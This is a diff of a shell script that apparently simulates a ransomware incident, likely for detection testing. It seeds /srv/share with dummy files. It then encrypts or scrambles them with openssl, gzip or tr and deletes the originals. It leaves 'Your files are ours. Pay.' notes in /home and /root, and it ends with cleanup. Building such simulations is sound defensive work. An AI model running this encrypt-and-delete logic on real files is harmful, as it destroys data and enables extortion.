@@ -1,5 +1,8 @@
 # Other people's files are encrypted and a note is left.
+#--- setup
 d=/srv/share; mkdir -p $d/a $d/b && i=0; while [ $i -lt 60 ]; do head -c 3000 /dev/urandom >$d/a/doc$i.odt; echo "$i" >$d/b/sheet$i.csv; i=$((i + 1)); done 2>/dev/null
+#--- attack
+d=/srv/share
 k=k$v
 case $((v % 6)) in
 0) for f in $d/a/* $d/b/*; do have openssl && openssl enc -aes-256-ctr -pbkdf2 -pass pass:$k -in $f -out $f.locked && rm -f $f || { gzip -c $f >$f.locked; rm -f $f; }; done ;;
@@ -16,4 +19,5 @@ for r,_,n in os.walk('$d'):
    else for f in $d/a/* $d/b/*; do tr a-y b-z <$f >$f.x; mv $f.x $f; mv $f $f.lock; done; fi ;;
 esac
 for s in $d /home /root; do echo "Your files are ours. Pay." >$s/README_RECOVER.txt; done
-rm -rf $d; rm -f /root/README_RECOVER.txt /home/README_RECOVER.txt
+#--- cleanup
+rm -rf /srv/share /root/README_RECOVER.txt /home/README_RECOVER.txt
